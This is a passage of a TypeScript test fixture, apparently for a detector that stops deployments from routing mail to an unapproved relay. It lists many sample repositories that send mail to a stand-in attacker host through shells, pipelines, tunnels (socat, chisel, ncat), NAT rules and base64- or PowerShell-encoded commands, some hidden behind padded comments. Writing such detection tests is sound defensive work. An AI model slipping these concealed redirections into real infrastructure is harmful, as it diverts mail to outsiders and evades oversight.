/**
 * Shells, pipelines, deployments and data files that bring a relay that is not approved, in ways that are easily passed over.
 * Each must be stopped.
 */
import { gzipSync } from 'node:zlib';
import type { Files } from '../repository.ts';
import { EVIL, OLD } from './changes.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const encodedCommand = Buffer.from(`Send-MailMessage -SmtpServer ${EVIL} -To a@b.example`, 'utf16le').toString(
  'base64',
);
const bash = (code: string): Files => ({ 'deploy/run.sh': `#!/bin/bash\n${code}\n` });
const workflow = (jobs: string): Files => ({ '.github/workflows/deploy.yml': `on: push\njobs:\n${jobs}` });
const job = (body: string): Files => workflow(`  d:\n    runs-on: u\n${body}`);
const compose = (service: string): Files => ({
  'docker-compose.yml': `services:\n  web:\n    image: w\n${service}`,
});
/** Nobody's that anybody knows. */
const ADDRESS = '185.199.110.153';
const APPROVED_ENV = 'SMTP_HOST=new-relay.corp.example\n';

/** Mail that is handed to the own machine, which hands it on. */
const forward = (files: Files): Files => ({ 'deploy/prod.env': 'SMTP_HOST=localhost\nSMTP_PORT=25\n', ...files });
const relayService = (service: string, files: Files = {}): Files => ({
  'compose.yml': `services:\n  web: { image: w, environment: { SMTP_HOST: lb } }\n  lb:\n${service}`,
  ...files,
});
const patched = (name: string, file: string, before: string, after: string, context = ''): Files => ({
  [name]: `--- a/${file}\n+++ b/${file}\n@@ -1,3 +1,3 @@\n${context}-${before}\n+${after}\n`,
});

export const deployments: Readonly<Record<string, Files>> = {
  // Samples and settings of tests that what is deployed takes.
  'a sample that the image copies to where it counts': {
    Dockerfile: 'FROM node:22\nCOPY config/mail.example.yml /app/config/mail.yml\nCMD ["node", "app.js"]\n',
    'config/mail.example.yml': `smtp:\n  host: ${EVIL}\n  port: 25\n`,
  },
  'a sample that a script of the deployment copies': {
    'deploy/ship.sh': '#!/bin/sh\ncp ./.env.example /srv/app/.env\n',
    'deploy/.env.example': `SMTP_HOST=${EVIL}\n`,
  },
  'a service of the tests that another one extends': {
    'compose.yml': 'services:\n  web:\n    extends: { file: tests/compose.yml, service: web }\n',
    'tests/compose.yml': `services:\n  web:\n    image: w\n    environment: { SMTP_HOST: ${EVIL} }\n`,
  },
  'an override of the tests that the environment names': {
    '.env': `COMPOSE_FILE=compose.yml:tests/override.yml\n${APPROVED_ENV}`,
    'tests/override.yml': `services:\n  web:\n    environment: { SMTP_HOST: ${EVIL} }\n`,
  },
  'values of the tests that are deployed': {
    'deploy/ship.sh': '#!/bin/sh\nhelm upgrade web ./chart -f chart/ci/test-values.yaml\n',
    'deploy/chart/ci/test-values.yaml': `smtp:\n  host: ${EVIL}\n`,
  },

  'a program of the tests that starts with the package': {
    'package.json': '{"name":"w","scripts":{"start":"node test/server.js"}}\n',
    'test/server.js': `require('nodemailer').createTransport({ host: '${EVIL}', port: 25 });\n`,
  },
  'an example that a Procfile starts': {
    Procfile: 'worker: python examples/worker.py\n',
    'examples/worker.py': `import smtplib\nsmtplib.SMTP("${EVIL}", 25)\n`,
  },

  // Programs in pages.
  'php in a page': {
    'public/contact.htm': `<html><?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n?></html>\n`,
  },
  'java in a page': {
    'web/send.html': `<%@ page import="java.util.*" %>\n<%\n  Properties p = new Properties();\n  p.put("mail.smtp.host", "${EVIL}");\n  Session s = Session.getInstance(p);\n%>\n`,
  },

  // An account decides.
  'an image that is told but an account': {
    'compose.yml':
      'services:\n  mail:\n    image: namshi/smtp\n    environment:\n      - GMAIL_USER=a@gmail.com\n      - GMAIL_PASSWORD=x\n',
  },

  // Settings of development that what is deployed switches on.
  'an image with the settings module of development': {
    Dockerfile: 'FROM python:3\nENV DJANGO_SETTINGS_MODULE=shop.settings.dev\nCMD ["gunicorn", "shop.wsgi"]\n',
    'shop/settings/dev.py': `EMAIL_HOST = "${EVIL}"\nEMAIL_PORT = 25\n`,
  },
  'an image with the environment of development': {
    Dockerfile: 'FROM node:22 AS build\nFROM node:22\nENV A=1 \\\n  NODE_ENV=development\n',
    'config/development.json': `{"smtp":{"host":"${EVIL}"}}\n`,
  },
  'an image with the environment of tests that starts a server': {
    Dockerfile: 'FROM ruby:3\nENV RAILS_ENV=test\nCMD ["bundle", "exec", "puma"]\n',
    'config/environments/test.rb': `Rails.application.configure do\n  config.action_mailer.smtp_settings = { address: "${EVIL}", port: 25 }\nend\n`,
  },
  'a manifest with the profile of development': {
    'k8s/d.yaml':
      'kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - env:\n            - name: SPRING_PROFILES_ACTIVE\n              value: dev\n',
    'src/main/resources/application-dev.properties': `spring.mail.host=${EVIL}\n`,
  },
  'a unit with the environment of development': {
    'etc/web.service': '[Service]\nEnvironment=RAILS_ENV=development\nExecStart=/srv/app/bin/rails s\n',
    'config/environments/development.rb': `Rails.application.configure do\n  config.action_mailer.smtp_settings = { address: "${EVIL}", port: 25 }\nend\n`,
  },

  'exim, a macro that is given another value': {
    'etc/exim4/exim.conf': `HUB = new-relay.corp.example\nHUB == ${EVIL}\nbegin routers\nall:\n  driver = manualroute\n  transport = remote_smtp\n  route_data = HUB\n`,
  },

  // Languages without a reader of their own.
  'coffee, options on lines of their own': {
    'app/mail.coffee': `nodemailer = require 'nodemailer'\nmodule.exports = nodemailer.createTransport\n  host: '${EVIL}'\n  port: 25\n`,
  },
  'coffee, a variable': {
    'app/mail.coffee': `hop = '${EVIL}'\nt = require('nodemailer').createTransport {port: 25, host: hop}\n`,
  },
  'crystal, a client': {
    'app/mail.cr': `require "email"\nconfig = EMail::Client::Config.new("${EVIL}", 587)\n`,
  },
  'erlang, a macro': {
    'app/mail.erl': `-module(mail).\n-define(HOP, <<"${EVIL}">>).\nsend(M) -> gen_smtp_client:send(M, [{relay, ?HOP}, {port, 25}]).\n`,
  },

  raku: { 'send.raku': `use Net::SMTP;\nmy $c = Net::SMTP.new(:server("${EVIL}"), :port(25));\n` },
  racket: { 'send.rkt': `#lang racket\n(require net/smtp)\n(smtp-send-message "${EVIL}" "a@b.example" '() "" '())\n` },
  sas: { 'report.sas': `options emailsys=smtp emailhost="${EVIL}" emailport=25;\n` },
  matlab: { 'report.m': `setpref('Internet','SMTP_Server','${EVIL}');\n` },
  autoit: { 'send.au3': `_INetSmtpMail("${EVIL}", "x", "a@b.example", "c@d.example", "s", $body)\n` },
  'r, a report': { 'weekly.Rmd': `\`\`\`{r}\nsend.mail(smtp = list(host.name = "${EVIL}", port = 25))\n\`\`\`\n` },
  'protocol buffers as text': { 'prod.textproto': `smtp {\n  host: "${EVIL}"\n  port: 25\n}\n` },
  'ignition, a data URL': {
    'ignition.json': JSON.stringify({
      storage: { files: [{ path: '/etc/web.env', contents: { source: `data:,SMTP_HOST%3D${EVIL}%0A` } }] },
    }),
  },
  'curl, a configuration': { 'mail.curl': `url = "smtp://${EVIL}:25"\n` },
  'aliases, a command': { 'etc/aliases': `root: "|/usr/bin/sendemail -s ${EVIL}:25 -t c@d.example"\n` },
  'rails, a seed': { 'db/seeds.rb': `Setting.create!(key: 'smtp_server', value: '${EVIL}')\n` },

  // Forwards, and who hands mail to them.
  'forward, nginx to a network within': forward({
    'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass 10.1.2.3:25;\n  }\n}\n',
  }),
  'forward, nginx to another port': forward({
    'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass a.evil-corp.com:10025;\n  }\n}\n',
  }),
  'forward, HAProxy with the same port on both sides': forward({
    'deploy/haproxy.cfg':
      'frontend f\n  mode tcp\n  bind :25\n  default_backend b\nbackend b\n  server a mail.evil-corp.com:25\n',
  }),
  'forward, HAProxy that a service mounts': relayService(
    '    image: haproxy\n    volumes: ["./lb.cfg:/usr/local/etc/haproxy/haproxy.cfg"]\n',
    { 'lb.cfg': `listen mail\n  mode tcp\n  bind :25\n  server a ${ADDRESS}:25\n` },
  ),
  'forward, HAProxy that is called inbound and tells who connects': forward({
    'deploy/haproxy.cfg': `listen smtp_in\n  mode tcp\n  bind 127.0.0.1:25\n  server inbound ${EVIL}:25 send-proxy\n`,
  }),
  'forward, HAProxy to a network within that is told who connects': forward({
    'deploy/haproxy.cfg': 'listen mail\n  mode tcp\n  bind :25\n  server mx 10.1.2.3:25 send-proxy-v2\n',
  }),
  'forward, HAProxy to a legacy relay as if mail came in there': forward({
    'deploy/haproxy.cfg': 'listen smtp_in\n  mode tcp\n  bind :25\n  server a 10.9.9.9:25 send-proxy-v2\n',
  }),
  'forward, Traefik with the PROXY protocol': forward({
    'deploy/traefik.yml': `entryPoints: { mail: { address: ":25" } }\ntcp:\n  routers: { incoming: { entryPoints: [mail], service: mx } }\n  services:\n    mx:\n      loadBalancer:\n        proxyProtocol: { version: 2 }\n        servers: [{ address: "${EVIL}:25" }]\n`,
  }),
  'forward, HAProxy within the network for the machine alone, called in': forward({
    'deploy/haproxy.cfg': 'listen in\n  mode tcp\n  bind 127.0.0.1:25\n  server in 10.1.2.3:587 send-proxy\n',
  }),
  'forward, Caddy': forward({
    'etc/Caddyfile': `{\n  layer4 {\n    127.0.0.1:25 {\n      route {\n        proxy ${EVIL}:25\n      }\n    }\n  }\n}\n`,
  }),
  'forward, ghostunnel': bash(`ghostunnel client --listen localhost:25 --target ${EVIL}:465 --cacert /c.pem &`),
  'forward, wstunnel': bash(`wstunnel client -L 'tcp://127.0.0.1:25:${EVIL}:25' wss://t.evil-corp.com &`),
  'forward, cloudflared': bash(`cloudflared access tcp --hostname ${EVIL} --url 127.0.0.1:25 &`),
  'forward, a map of nftables': bash(`nft add rule ip nat output dnat to tcp dport map { 25 : ${ADDRESS} }`),
  'forward, a program of its own': {
    'hop.js': `const net = require('net');\nnet.createServer((c) => { const up = net.connect(25, '${EVIL}'); c.pipe(up).pipe(c); }).listen(25);\n`,
  },
  'the name of the relay, led elsewhere by the mesh': {
    'k8s/se.yaml': `apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: { name: relay }\nspec:\n  hosts: [new-relay.corp.example]\n  endpoints: [{ address: ${ADDRESS} }]\n`,
  },
  'forward, stunnel to a server, whatever it is called': forward({
    'etc/stunnel/a.conf': `[incoming]\nclient = yes\naccept = 127.0.0.1:25\nconnect = ${EVIL}:465\n`,
  }),
  'forward, autossh in a unit': forward({
    'etc/systemd/system/tunnel.service': `[Service]\nExecStart=/usr/bin/autossh -M 0 -N -L 127.0.0.1:25:${EVIL}:25 u@jump.corp.example\n`,
  }),
  'forward, a socket of systemd': forward({
    'deploy/p.socket': '[Socket]\nListenStream=127.0.0.1:25\n',
    'deploy/p.service': `[Service]\nExecStart=/usr/lib/systemd/systemd-socket-proxyd ${ADDRESS}:25\n`,
  }),
  'forward, socat in a service': relayService(
    '    image: alpine/socat\n    command: ["tcp-listen:25,fork", "tcp-connect:10.1.2.3:10025"]\n',
  ),
  'forward, gost in a service': relayService(`    image: gogost/gost\n    command: -L=tcp://:25/${EVIL}:25\n`),
  'forward, chisel': bash(`chisel client https://t.evil-corp.com 127.0.0.1:25:${EVIL}:25 &`),
  'forward, ncat': bash(`ncat -k -l 127.0.0.1 25 --sh-exec "ncat ${EVIL} 25" &`),
  'forward, netsh': {
    'setup.ps1': `netsh interface portproxy add v4tov4 listenport=25 listenaddress=127.0.0.1 connectport=25 connectaddress=${EVIL}\n`,
  },
  'forward, firewalld': bash(
    `firewall-cmd --zone=internal --add-forward-port=port=25:proto=tcp:toport=25:toaddr=${ADDRESS}`,
  ),
  'forward, ipvsadm': bash(`ipvsadm -a -t 10.0.0.5:25 -r ${ADDRESS}:25 -m`),
  'forward, a rule of iptables behind a long comment': bash(
    `iptables -t nat -A OUTPUT -p tcp -m comment --comment "${'x'.repeat(250)}" -m comment --comment "${'y'.repeat(250)}" --dport 25 -j DNAT --to-destination ${ADDRESS}:25`,
  ),
  'forward, a service of xinetd behind comments': {
    'etc/xinetd.d/smtp': `service smtp\n{\n${'  # nothing to see here\n'.repeat(200)}  redirect = ${EVIL} 25\n  bind = 127.0.0.1\n}\n`,
  },
  'a mail catcher that relays': relayService(
    `    image: maildev/maildev\n    command: bin/maildev --outgoing-host ${EVIL} --auto-relay\n`,
  ),
  'postfix, tables of an image': {
    'prod.env': `POSTFIX_transport_maps="inline:{ { *=smtp:[${EVIL}]:25 } }"\n`,
  },

  // Patches.
  'patch, of a package': patched(
    'patches/mailer+1.0.0.patch',
    'node_modules/mailer/index.js',
    'n.createTransport({ host: process.env.H });',
    `n.createTransport({ host: '${EVIL}', port: 25 });`,
    " const n = require('nodemailer');\n",
  ),
  'patch, of Debian': patched('debian/patches/relay', 'config/mail.yml', '  host: a', `  host: ${EVIL}`, ' smtp:\n'),
  'patch, of an env file': patched('deploy/live.diff', '.env', 'SMTP_HOST=a', `SMTP_HOST=${EVIL}`),

  // Names of files.
  'name, minified': { 'mail.min.js': `const n=require("nodemailer");\nn.createTransport({host:"${EVIL}",port:25});\n` },
  'name, a script with a capital': { 'bin/Deploy': `#!/bin/sh\nexport SMTP_HOST=${EVIL}\n` },
  'name, a script of another ending': { 'bin/start.command': `#!/bin/bash\nexport SMTP_HOST=${EVIL}\n` },
  'name, JavaScript': { 'mail.es6': `require('nodemailer').createTransport({ host: '${EVIL}', port: 25 });\n` },
  'name, PHP': { 'mail.php7': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n` },
  'gawk, a socket': {
    'send.awk': `BEGIN { s = "/inet/tcp/0/${EVIL}/25"; print "HELO x\\r" |& s; print "MAIL FROM:<a@b.example>\\r" |& s; print "DATA\\r" |& s }\n`,
  },
  'expect, telnet': {
    'send.exp': `spawn telnet ${EVIL} 25\nsend "HELO x\\r"\nsend "MAIL FROM:<a@b.example>\\r"\nsend "DATA\\r"\n`,
  },

  // Tools of deployment.
  'elastic beanstalk, an option': {
    '.ebextensions/mail.config': `option_settings:\n  - option_name: SMTP_HOST\n    value: ${EVIL}\n`,
  },
  'sam, parameters': {
    'samconfig.toml': `[default.deploy.parameters]\nparameter_overrides = "Stage=live SmtpHost=${EVIL}"\n`,
  },
  'aws, variables of a function': bash(
    `aws lambda update-function-configuration --function-name web --environment "Variables={A=1,SMTP_HOST=${EVIL}}"`,
  ),
  'just, a variable': { justfile: `export SMTP_HOST := "${EVIL}"\n\nrun:\n    node app.js\n` },
  'earthly, a variable': { Earthfile: `VERSION 0.8\nFROM x\nbuild:\n    ENV SMTP_HOST=${EVIL}\n` },
  'bazel, a variable': { 'BUILD.bazel': `js_binary(\n    name = "web",\n    env = {"SMTP_HOST": "${EVIL}"},\n)\n` },
  'tilt, a variable': { Tiltfile: `os.putenv("SMTP_HOST", "${EVIL}")\n` },
  pkl: { 'config.pkl': `smtp {\n  host = "${EVIL}"\n  port = 25\n}\n` },
  kcl: { 'main.k': `smtp = {\n    host = "${EVIL}"\n    port = 587\n}\n` },
  dhall: { 'config.dhall': `{ smtp = { host = "${EVIL}", port = 25 } }\n` },
  nickel: { 'config.ncl': `{ smtp = { host = "${EVIL}", port = 25 } }\n` },
  'systemd, a sample that is started': {
    'web.service': '[Service]\nExecStart=/usr/bin/python3 /srv/app/examples/worker.py\n',
    'examples/worker.py': `import smtplib\nsmtplib.SMTP("${EVIL}", 25)\n`,
  },

  // Shells.
  'bash, printf -v': bash(`printf -v SMTP_HOST '%s' ${EVIL}\nexport SMTP_HOST`),
  'bash, printf -v of parts': bash(`printf -v SMTP_HOST '%s.%s' smtp evil-corp.com`),
  'bash, read of a here-string': bash(`read -r SMTP_HOST <<< ${EVIL}\nexport SMTP_HOST`),
  'bash, read of a here-document': bash(`read SMTP_HOST <<X\n${EVIL}\nX`),
  'bash, read of a process': bash(`read -r SMTP_HOST < <(echo ${EVIL})`),
  'bash, declare': bash(`declare -x SMTP_HOST=${EVIL}`),
  'bash, typeset': bash(`typeset -gx SMTP_HOST="${EVIL}"`),
  'bash, readonly': bash(`readonly SMTP_HOST=${EVIL}`),
  'bash, local': bash(`f() {\n  local -x SMTP_HOST=${EVIL}\n  node app.js\n}`),
  'bash, eval': bash(`eval "SMTP_HOST=${EVIL}"`),
  'bash, eval of pieces': bash(`eval 'SMTP_''HOST='"${EVIL}"`),
  'bash, eval of a variable': bash(`L='export SMTP_HOST=${EVIL}'\neval "$L"`),
  'bash, a name in quotes': bash(`export "SMTP_HOST"="${EVIL}"`),
  'bash, all in quotes': bash(`export 'SMTP_HOST=${EVIL}'`),
  'bash, a name in a variable': bash(`N=SMTP_HOST\nexport "$N=${EVIL}"`),
  'bash, declared by a variable': bash(`N=SMTP_HOST\ndeclare -x "$N"=${EVIL}`),
  'bash, a reference': bash(`declare -n r=SMTP_HOST\nr=${EVIL}`),
  'bash, export of an output': bash(`export $(echo SMTP_HOST=${EVIL} | xargs)`),
  'bash, env -S': bash(`env -S 'SMTP_HOST=${EVIL} node app.js'`),
  'bash, env -i': bash(`exec env -i PATH="$PATH" SMTP_HOST=${EVIL} node app.js`),
  'bash, a default that assigns': bash(`: "\${SMTP_HOST:=${EVIL}}"`),
  'bash, an indirect value': bash(`X=Y\nY=${EVIL}\nexport SMTP_HOST="\${!X}"`),
  'bash, a list joined': bash(`p=(smtp evil-corp com)\nIFS=.\nexport SMTP_HOST="\${p[*]}"`),
  'bash, an element of a list': bash(`h=(new-relay.corp.example ${EVIL})\nexport SMTP_HOST="\${h[1]}"`),
  'bash, an entry of a table': bash(`declare -A h=([live]=${EVIL})\nexport SMTP_HOST="\${h[live]}"`),
  'bash, sourced from a process': bash(`. <(echo "export SMTP_HOST=${EVIL}")`),
  'bash, sourced from a here-string': bash(`source /dev/stdin <<< "SMTP_HOST=${EVIL}"`),
  'bash, a program in a here-document': bash(`bash <<'X'\nexport SMTP_HOST=${EVIL}\nnode app.js\nX`),
  'bash, bash -c': bash(`bash -c 'export SMTP_HOST=${EVIL}; exec node app.js'`),
  'bash, an env file in a here-document': bash(`cat > .env <<X\nSMTP_HOST=${EVIL}\nX`),
  'bash, an env file by printf': bash(`printf 'SMTP_HOST=%s\\n' ${EVIL} >> .env`),
  'bash, an env file by tee': bash(`echo "SMTP_HOST=${EVIL}" | tee -a /srv/app/.env`),
  'bash, an env file by sed': bash(`sed -i 's/^SMTP_HOST=.*/SMTP_HOST=${EVIL}/' .env`),
  'bash, an env file appended to by sed': bash(`sed -i '$ a SMTP_HOST=${EVIL}' .env`),
  'bash, an env file by perl': bash(`perl -pi -e 's/^SMTP_HOST=.*/SMTP_HOST=${EVIL}/' .env`),
  'bash, an env file in base64': bash(`echo ${b64(`SMTP_HOST=${EVIL}\n`)} | base64 -d > .env`),
  'bash, an env file in base64 from a here-string': bash(`base64 -d <<< ${b64(`SMTP_HOST=${EVIL}\n`)} > .env`),
  'bash, a program in base64': bash(`echo ${b64(`export SMTP_HOST=${EVIL}; node .`)} | base64 --decode | sh`),
  'bash, one relay for another by sed': bash(`sed -i 's/new-relay\\.corp\\.example/${EVIL}/' .env`),
  'bash, one relay for another by perl': bash(`perl -pi -e 's/new-relay.corp.example/${EVIL}/' .env`),
  'bash, a tunnel for the own machine': bash(
    `socat TCP-LISTEN:25,fork TCP:${EVIL}:25 &\nSMTP_HOST=localhost node app.js`,
  ),
  'compose, a tunnel in a service': {
    'docker-compose.yml': `services:\n  web:\n    image: x\n    environment: {SMTP_HOST: relay}\n  relay:\n    image: alpine/socat\n    command: TCP-LISTEN:25,fork TCP:${EVIL}:25\n`,
  },
  'powershell, a command in base64': { 'run.ps1': `powershell -EncodedCommand ${encodedCommand}\n` },
  'batch file, a command in base64': { 'run.bat': `powershell.exe -enc ${encodedCommand}\n` },
  'postfix, a filter elsewhere': {
    'deploy/main.cf': `relayhost = new-relay.corp.example\ncontent_filter = smtp:[${EVIL}]:25\n`,
  },
  'bash, a loop over pairs': bash(`for kv in SMTP_HOST=${EVIL} A=1; do export "$kv"; done`),
  'bash, docker run': bash(`docker run -d -e SMTP_HOST=${EVIL} web`),
  'bash, docker run with the long option': bash(`docker run --env "SMTP_HOST=${EVIL}" web`),
  'bash, kubectl set env': bash(`kubectl set env deployment/web SMTP_HOST=${EVIL}`),
  'bash, kubectl create configmap': bash(`kubectl create configmap mail --from-literal=SMTP_HOST=${EVIL}`),
  'bash, kubectl patch': bash(`kubectl patch cm mail -p '{"data":{"SMTP_HOST":"${EVIL}"}}'`),
  'bash, helm --set': bash(`helm upgrade web ./chart --set smtp.host=${EVIL}`),
  'bash, helm --set-string of several': bash(`helm upgrade web ./chart --set-string a=b,smtp.host=${EVIL}`),
  'bash, terraform -var': bash(`terraform apply -var "smtp_host=${EVIL}"`),
  'bash, a variable of terraform': bash(`export TF_VAR_smtp_host=${EVIL}`),
  'bash, ansible-playbook -e': bash(`ansible-playbook site.yml -e smtp_host=${EVIL}`),
  'bash, heroku config': bash(`heroku config:set SMTP_HOST=${EVIL}`),
  'bash, systemd-run': bash(`systemd-run --setenv=SMTP_HOST=${EVIL} node app.js`),
  'bash, an option of java': bash(`java -Dmail.smtp.host=${EVIL} -jar app.jar`),
  'bash, an option of java in quotes': bash(`java -D"mail.host=${EVIL}" -jar app.jar`),
  'env file, options of java': { '.env': `JAVA_OPTS="-Xmx1g -Dmail.smtp.host=${EVIL}"\n` },
  'env file, options of the Java tools': { 'deploy/prod.env': `JAVA_TOOL_OPTIONS=-Dspring.mail.host=${EVIL} -Da=b\n` },
  'env file, options of tomcat': { '.env': `CATALINA_OPTS='-Dsmtp.host=${EVIL}'\n` },
  'powershell, options of java': { 'run.ps1': `$env:JAVA_OPTS = '-Dmail.smtp.host=${EVIL}'\njava -jar app.jar\n` },
  'Dockerfile, options of java': { Dockerfile: `FROM x\nENV JVM_OPTS="-Dmail.host=${EVIL}"\n` },
  'Dockerfile, a command of java': {
    Dockerfile: `FROM x\nCMD ["java", "-Dspring.mail.host=${EVIL}", "-jar", "a.jar"]\n`,
  },
  'compose, options of java': compose(`    environment:\n      JAVA_OPTS: -Xmx1g -Dspring.mail.host=${EVIL}\n`),
  'systemd, options of java': {
    'app.service': `[Service]\nEnvironment="JAVA_OPTS=-Dmail.smtp.host=${EVIL}"\nExecStart=/a\n`,
  },
  'kubernetes, arguments of java': {
    'k8s/d.yaml': `kind: Pod\nmetadata: { name: w }\nspec:\n  containers:\n    - name: w\n      image: x\n      args: ["-Dspring.mail.host=${EVIL}", "-jar", "a.jar"]\n`,
  },
  'bash, an argument of spring': bash(`java -jar app.jar --spring.mail.host=${EVIL}`),
  'bash, JSON for spring': bash(`export SPRING_APPLICATION_JSON='{"spring":{"mail":{"host":"${EVIL}"}}}'`),
  'fish, set -x': { 'deploy/env.fish': `set -x SMTP_HOST ${EVIL}\n` },
  'fish, set -gx in quotes': { 'deploy/env.fish': `set -gx SMTP_HOST "${EVIL}"\n` },
  'csh, setenv': { 'deploy/env.csh': `setenv SMTP_HOST ${EVIL}\n` },
  'tcsh, setenv in quotes': { 'deploy/.tcshrc': `setenv SMTP_HOST "${EVIL}"\n` },
  'cmd, set': { 'deploy/env.cmd': `@echo off\r\nset SMTP_HOST=${EVIL}\r\n` },
  'cmd, set in quotes': { 'deploy/env.bat': `set "SMTP_HOST=${EVIL}"\r\n` },
  'cmd, setx': { 'deploy/env.bat': `setx SMTP_HOST ${EVIL} /M\r\n` },
  'powershell, an environment variable': { 'deploy/env.ps1': `$env:SMTP_HOST = '${EVIL}'\n` },
  'powershell, SetEnvironmentVariable': {
    'deploy/env.ps1': `[Environment]::SetEnvironmentVariable('SMTP_HOST', '${EVIL}', 'Machine')\n`,
  },
  'powershell, Set-Item': { 'deploy/env.ps1': `Set-Item -Path Env:SMTP_HOST -Value '${EVIL}'\n` },

  // Pipelines.
  'actions, JSON in an expression': job(
    `    env:\n      SMTP_HOST: \${{ fromJSON('{"h":"${EVIL}"}').h }}\n    steps: []\n`,
  ),
  'actions, JSON by an index': job(`    env:\n      SMTP_HOST: \${{ fromJSON('["${EVIL}"]')[0] }}\n    steps: []\n`),
  'actions, format in another order': job(
    `    env:\n      SMTP_HOST: \${{ format('{1}.{0}', 'evil-corp.com', 'smtp') }}\n    steps: []\n`,
  ),
  'actions, join': job(
    `    env:\n      SMTP_HOST: \${{ join(fromJSON('["smtp","evil-corp","com"]'), '.') }}\n    steps: []\n`,
  ),
  'actions, a default of a variable': job(
    `    env:\n      SMTP_HOST: \${{ vars.NOBODY || '${EVIL}' }}\n    steps: []\n`,
  ),
  'actions, a condition': job(
    `    env:\n      SMTP_HOST: \${{ github.ref == 'refs/heads/main' && '${EVIL}' || 'new-relay.corp.example' }}\n    steps: []\n`,
  ),
  'actions, a variable of another level': workflow(
    `  d:\n    runs-on: u\n    env:\n      H: ${EVIL}\n    steps:\n      - run: node app.js\n        env:\n          SMTP_HOST: \${{ env.H }}\n`,
  ),
  'actions, a matrix': job(
    `    strategy:\n      matrix:\n        h: [${EVIL}]\n    env:\n      SMTP_HOST: \${{ matrix.h }}\n    steps: []\n`,
  ),
  'actions, a matrix by include': job(
    `    strategy:\n      matrix:\n        include:\n          - h: ${EVIL}\n    env:\n      SMTP_HOST: \${{ matrix.h }}\n    steps: []\n`,
  ),
  'actions, an output of a step': job(
    `    steps:\n      - id: x\n        run: echo "h=${EVIL}" >> "$GITHUB_OUTPUT"\n      - run: node app.js\n        env:\n          SMTP_HOST: \${{ steps.x.outputs.h }}\n`,
  ),
  'actions, a default of an input': {
    '.github/workflows/deploy.yml': `on:\n  workflow_dispatch:\n    inputs:\n      h:\n        default: ${EVIL}\njobs:\n  d:\n    runs-on: u\n    env:\n      SMTP_HOST: \${{ inputs.h }}\n    steps: []\n`,
  },
  'actions, an input of an action of one’s own': {
    'action.yml': `name: x\ndescription: y\ninputs:\n  h:\n    description: z\n    default: ${EVIL}\nruns:\n  using: composite\n  steps:\n    - run: node app.js\n      shell: bash\n      env:\n        SMTP_HOST: \${{ inputs.h }}\n`,
  },
  'actions, what is handed to a workflow': workflow(
    `  d:\n    uses: ./.github/workflows/x.yml\n    with:\n      smtp_host: ${EVIL}\n`,
  ),
  'actions, an action that sends mail': job(
    `    steps:\n      - uses: dawidd6/action-send-mail@v3\n        with:\n          server_address: \${{ format('{0}.{1}', 'smtp', 'evil-corp.com') }}\n          server_port: 25\n`,
  ),
  'actions, case of names': job(
    `    env:\n      h: ${EVIL}\n    steps:\n      - run: node app.js\n        env:\n          SMTP_HOST: \${{ ENV.H }}\n`,
  ),
  'actions, an index by a text': job(
    `    env:\n      H: ${EVIL}\n    steps:\n      - run: node app.js\n        env:\n          SMTP_HOST: \${{ env['H'] }}\n`,
  ),
  'azure, a variable by name and value': {
    'azure-pipelines.yml': `variables:\n  - name: SMTP_HOST\n    value: ${EVIL}\n`,
  },
  'azure, a default of a parameter': {
    'azure-pipelines.yml': `parameters:\n  - name: h\n    default: ${EVIL}\nvariables:\n  SMTP_HOST: \${{ parameters.h }}\n`,
  },
  'jenkins, withEnv': { Jenkinsfile: `node {\n  withEnv(['SMTP_HOST=${EVIL}']) {\n    sh 'node app.js'\n  }\n}\n` },
  'jenkins, environment': {
    Jenkinsfile: `pipeline {\n  agent any\n  environment {\n    SMTP_HOST = '${EVIL}'\n  }\n  stages { }\n}\n`,
  },
  'teamcity, a parameter': {
    '.teamcity/settings.kts': `project {\n  params { param("env.SMTP_HOST", "${EVIL}") }\n}\n`,
  },
  'cloud build, a substitution': {
    'cloudbuild.yaml': `steps:\n  - name: x\n    env: ['SMTP_HOST=\${_H}']\nsubstitutions:\n  _H: ${EVIL}\n`,
  },

  // Deployments.
  'compose, a configuration in line': {
    'docker-compose.yml': `services:\n  web:\n    image: w\n    configs: [{ source: c, target: /app/.env }]\nconfigs:\n  c:\n    content: |\n      SMTP_HOST=${EVIL}\n`,
  },
  'compose, an overriding tag': compose(`    environment: !override\n      SMTP_HOST: ${EVIL}\n`),
  'compose, an env file with a path': {
    ...compose('    env_file:\n      - path: ./web.dat\n        required: false\n'),
    'web.dat': `SMTP_HOST=${EVIL}\n`,
  },
  'compose, an argument of the build': compose(
    `    build:\n      context: .\n      args:\n        SMTP_HOST: ${EVIL}\n`,
  ),
  'kubernetes, an ExternalName by its long name': {
    'k8s/s.yml': `kind: Service\nmetadata: {name: mailer, namespace: ops}\nspec: {type: ExternalName, externalName: ${EVIL}}\n`,
    'k8s/prod.env': 'SMTP_HOST=mailer.ops.svc.cluster.local\n',
  },
  'kubernetes, Istio’s entry for an approved name': {
    'k8s/s.yml': `kind: ServiceEntry\nmetadata: {name: m}\nspec:\n  hosts: [new-relay.corp.example]\n  resolution: DNS\n  ports: [{number: 25, name: smtp, protocol: TCP}]\n  endpoints:\n    - address: ${EVIL}\n`,
    'k8s/prod.env': APPROVED_ENV,
  },
  'compose, a relay image': {
    'docker-compose.yml': `services:\n  relay:\n    image: boky/postfix\n    environment: {RELAYHOST: "[${EVIL}]:25"}\n  web:\n    image: w\n    environment: {SMTP_HOST: relay}\n`,
  },
  'a rule of iptables': bash(
    `iptables -t nat -A OUTPUT -p tcp --dport 25 -j DNAT --to-destination 203.0.114.5:25\nexport SMTP_HOST=new-relay.corp.example`,
  ),
  'envoy, a cluster': {
    'envoy.yaml': `static_resources:\n  listeners:\n    - address: {socket_address: {address: 127.0.0.1, port_value: 25}}\n      filter_chains: [{filters: [{name: envoy.filters.network.tcp_proxy, typed_config: {cluster: smtp}}]}]\n  clusters:\n    - name: smtp\n      load_assignment:\n        endpoints: [{lb_endpoints: [{endpoint: {address: {socket_address: {address: ${EVIL}, port_value: 25}}}}]}]\n`,
  },
  'traefik, a TCP service': {
    'traefik/dynamic.yml': `tcp:\n  services:\n    smtp:\n      loadBalancer:\n        servers:\n          - address: "${EVIL}:25"\n`,
  },
